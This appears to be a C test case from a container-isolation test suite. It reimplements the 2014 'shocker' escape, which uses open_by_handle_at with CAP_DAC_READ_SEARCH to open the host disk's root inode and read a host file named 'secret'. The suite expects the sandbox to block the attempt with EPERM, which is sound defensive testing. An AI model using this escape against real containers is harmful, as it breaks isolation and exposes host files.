// SPDX-License-Identifier: GPL-2.0-only
/*
 * A file handle names a file by its inode, whatever is mounted where: from any
 * file of the host's disk, /etc/hosts say, to the disk's root, and from there
 * down. Sebastian Krahmer's shocker.c, 2014.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"

/* ext2 to ext4 take an inode number alone; the root's is 2. */
#define EXT_ROOT_INO	2
#define INO32_GEN	1

static int open_inode(int at, uint32_t ino, int flags)
{
	struct {
		struct file_handle h;
		uint32_t ino, generation;
	} f = { { .handle_bytes = 8, .handle_type = INO32_GEN }, ino, 0 };

	return open_by_handle_at(at, &f.h, flags);
}

static uint32_t find(DIR *dir, const char *name)
{
	struct dirent *d;

	while ((d = readdir(dir)))
		if (!strcmp(d->d_name, name))
			return d->d_ino;
	return 0;
}

static int attempt(const struct args *a)
{
	int hosts = open("/etc/hosts", O_RDONLY), root, fd;
	char text[64] = "";
	uint32_t ino;
	DIR *dir;

	(void)a;
	root = open_inode(hosts, EXT_ROOT_INO, O_RDONLY | O_DIRECTORY);
	if (root < 0)
		return errno;
	dir = fdopendir(root);
	ino = dir ? find(dir, "secret") : 0;
	fd = ino ? open_inode(hosts, ino, O_RDONLY) : -1;
	if (fd < 0)
		return errno;
	return read(fd, text, sizeof(text) - 1) < 0 ? errno : is_secret(text);
}

const struct escape shocker[] = {
	{ "shocker: the host's files by their handles",
	  { .caps = CAP(CAP_DAC_READ_SEARCH),
	    .volumes = { DISK_MOUNT "/hosts", "/etc/hosts" } },
	  disk_make, .attempt = attempt, .restore = disk_remove, .error = EPERM,
	  .act = BULKHEAD_ACT_HANDLE, .rule = "preset open-by-handle" },
	{ NULL }
};
